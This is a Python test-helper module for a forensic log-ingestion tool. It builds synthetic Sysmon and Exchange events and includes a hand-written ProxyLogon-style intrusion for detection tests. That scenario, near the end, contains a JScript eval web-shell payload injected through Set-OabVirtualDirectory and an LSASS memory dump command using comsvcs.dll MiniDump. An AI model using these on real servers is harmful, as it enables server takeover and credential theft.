"""Evidence the tests build themselves: Windows events in the evtx crate's JSON layout, JSON
lines, zip archives; and :func:`read`, which reads evidence into a fresh case store the real way
(discovery + ingest). (Imported by test modules; pytest puts ``tests/`` on the path.)"""

from __future__ import annotations

import io
import json
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson

from varde.events.store import EventStore
from varde.ingest import ingest, plan
from varde.sources.base import ArchiveLimits


def sysmon_event(
    n: int, command: str | None = None, host: str = "EXCH01", data: dict[str, str] | None = None, **system: object
) -> dict:
    """A Sysmon process creation (event 1) with record id ``n``; ``data`` adds EventData fields,
    ``system`` overrides System keys."""
    return {
        "Event": {
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                "EventID": 1,
                "EventRecordID": n,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": host,
                "TimeCreated": {"#attributes": {"SystemTime": "2021-03-03T02:10:11.000Z"}},
                **system,
            },
            "EventData": {"CommandLine": command if command is not None else f"cmd /c echo {n}", **(data or {})},
        }
    }


def jsonl(count: int, start: int = 0) -> bytes:
    """``count`` Sysmon events as JSON lines, record ids from ``start``."""
    return b"".join(json.dumps(sysmon_event(n)).encode() + b"\n" for n in range(start, start + count))


def zip_bytes(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive holding ``members`` (name -> content)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@dataclass
class Read:
    evidence: list[dict]
    warnings: list[dict]
    events: list[dict]

    def only(self) -> dict:
        assert len(self.evidence) == 1, self.evidence
        return self.evidence[0]


def read(tmp_path: Path, *paths: Path, workers: int = 0, limits: ArchiveLimits | None = None) -> Read:
    """Discover and read ``paths`` into a fresh case store; return evidence, warnings and events."""
    limits = limits or ArchiveLimits()
    case = tmp_path / f"case-{len(list(tmp_path.glob('case-*')))}"
    case.mkdir()
    with EventStore(case / "events.duckdb") as store:
        ingest(plan(list(paths), store, limits), store, case / "tmp", limits, workers=workers)
        cols = ("id", "path", "reader", "sha256", "bytes", "records", "skipped_records", "complete")
        evidence = [
            dict(zip(cols, r, strict=True))
            for r in store.query(f"SELECT {', '.join(cols)} FROM evidence ORDER BY id")
        ]
        warnings = [
            dict(zip(("evidence", "locator", "message", "skipped"), r, strict=True))
            for r in store.query(
                "SELECT evidence, locator, message, skipped FROM read_warnings ORDER BY evidence"
            )
        ]
        ecols = (
            "evidence",
            "locator",
            "ts",
            "host",
            "channel",
            "provider",
            "event_id",
            "record_id",
            "fields",
        )
        events = []
        for row in store.query(
            "SELECT evidence, locator, ts, host, channel, provider, event_id, record_id, "
            "CAST(fields AS VARCHAR) "
            "FROM events ORDER BY key"
        ):
            event = dict(zip(ecols, row, strict=True))
            event["fields"] = json.loads(event["fields"]) if event["fields"] else {}
            events.append(event)
    return Read(evidence, warnings, events)


def store_with(path, events: dict[tuple[str | None, int | None], list[dict]]):
    """An EventStore at ``path`` holding ``events``: (channel, event id) -> list of field dicts.

    A field dict may carry the common columns ``ts`` (ISO text, UTC), ``host`` and ``provider``;
    the rest are the event's own fields. Events of one key are numbered in order (locator
    ``line N``), all from evidence file 1 named after the channel.
    """
    from datetime import datetime

    from varde.events.store import EventStore
    from varde.sources.base import PartitionBatch, ReadContext

    store = EventStore(path)
    store.add_evidence(1, "evidence.log", "test", 0)
    batches: list[PartitionBatch] = []
    context = ReadContext(1, lambda item: batches.append(item) if isinstance(item, PartitionBatch) else None, path.parent)
    for (channel, event_id), rows in events.items():
        for row in rows:
            row = dict(row)
            ts = row.pop("ts", None)
            ts_us = int(datetime.fromisoformat(ts).timestamp() * 1_000_000) if ts else None
            host, provider = row.pop("host", None), row.pop("provider", None)
            context.event(f"line {context.records + 1}", ts_us, host, channel, provider, event_id, None, row)
    context.flush()
    for batch in batches:
        store.append(batch.key, batch.decode())
    store.finish_evidence(1, None, context.records, 0, True)
    store.refresh_view()
    return store


def write_file(folder: Path, name: str, text: str | bytes) -> Path:
    """Write ``text`` to ``folder/name`` (folders made as needed) and return the path."""
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


# A small hand-written intrusion (formerly the demo case): Sysmon and MSExchange Management events
# in the evtx crate layout, benign events around the intrusion.

HOST = "EXCH01.corp.example"
SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
EXCHANGE_BIN = "C:\\Program Files\\Microsoft\\Exchange Server\\V15"


def _event(record: int, when: str, provider: tuple[str, str], event_id: int, data: dict[str, Any]) -> dict:
    return {
        "Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": provider[0]}},
                "EventID": event_id,
                "TimeCreated": {"#attributes": {"SystemTime": when}},
                "EventRecordID": record,
                "Channel": provider[1],
                "Computer": HOST,
            },
            "EventData": data,
        }
    }


def _process(record: int, when: str, image: str, command: str, parent: str) -> dict:
    return _event(record, when, SYSMON, 1, {
        "UtcTime": when.replace("T", " ").rstrip("Z"),
        "Image": image,
        "CommandLine": command,
        "ParentImage": parent,
        "User": "NT AUTHORITY\\SYSTEM",
        "IntegrityLevel": "System",
    })


def intrusion_events() -> list[dict]:
    """A few events of a ProxyLogon-style intrusion with benign ones around it, in time order."""
    w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
    cmd = "C:\\Windows\\System32\\cmd.exe"
    shell_path = f"{EXCHANGE_BIN}\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx"
    cmdlet = (
        "Set-OabVirtualDirectory -ExternalUrl \"http://f/<script language=\"JScript\" runat=\"server\">"
        "function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>\" -Identity \"OAB (Default Web Site)\""
    )
    return [
        _process(1001, "2021-03-03T02:10:11.000Z", "C:\\Windows\\System32\\svchost.exe",
                 "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", "C:\\Windows\\System32\\services.exe"),
        _event(17, "2021-03-03T02:41:52.000Z", ("MSExchange CmdletLogs", "MSExchange Management"), 1,
               {"Data": {"#text": ["Set-OabVirtualDirectory", cmdlet.split(" ", 1)[1], "corp.example/Users/SYSTEM",
                                   "S-1-5-18", "S-1-5-18", "ECP", "4312 w3wp#MSExchangeECPAppPool"]}}),
        _event(1002, "2021-03-03T02:41:55.000Z", SYSMON, 11, {
            "Image": w3wp, "TargetFilename": shell_path, "CreationUtcTime": "2021-03-03 02:41:55.000"}),
        _process(1003, "2021-03-03T02:47:03.000Z", cmd, "cmd /c whoami", w3wp),
        _process(1004, "2021-03-03T02:49:40.000Z", "C:\\Windows\\System32\\rundll32.exe",
                 "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 664 C:\\ProgramData\\lsass.dmp full", cmd),
        _process(1005, "2021-03-03T08:00:00.000Z", "C:\\Windows\\System32\\notepad.exe",
                 "notepad.exe C:\\Users\\admin\\notes.txt", "C:\\Windows\\explorer.exe"),
    ]


def write_intrusion_events(folder: Path) -> Path:
    """Write the intrusion events as JSON lines into ``folder``; returns the file."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "EXCH01-events.jsonl"
    path.write_bytes(b"".join(orjson.dumps(e) + b"\n" for e in intrusion_events()))
    return path
